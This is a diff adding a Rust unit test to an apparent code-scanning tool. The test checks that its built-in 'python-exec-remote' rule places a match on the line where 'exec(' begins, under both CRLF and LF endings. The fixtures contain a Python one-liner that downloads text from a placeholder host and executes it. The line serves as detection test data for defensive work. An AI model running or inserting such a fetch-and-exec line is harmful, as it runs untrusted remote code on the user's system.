@@ -105,3 +105,25 @@ fn user_rule_folders_add_rules_and_report_bad_files() {
     assert!(err.file.ends_with("mine.toml") && err.line == 2, "{err}");
     std::fs::remove_dir_all(&dir).unwrap();
 }
+
+#[test]
+fn a_hit_after_a_line_break_is_placed_on_its_own_line() {
+    // `(?:^|[^.\w])exec` consumes the newline before `exec`; the hit belongs to the
+    // line of `exec`, with CRLF or LF endings alike.
+    let rules = RuleSet::builtin();
+    for text in [
+        "x = 1\r\n\r\nexec(__import__('requests').get('http://h/v').text)\r\n",
+        "x = 1\n\nexec(__import__('requests').get('http://h/v').text)\n",
+    ] {
+        let hits = rules.scan(text.as_bytes(), Language::Python);
+        let exec_hit = hits
+            .iter()
+            .find(|h| rules.rules[h.rule].info.id == "execution/python-exec-remote")
+            .expect("the rule fires");
+        assert!(
+            text[exec_hit.start..].starts_with("exec("),
+            "{:?}",
+            &text[exec_hit.start..]
+        );
+    }
+}
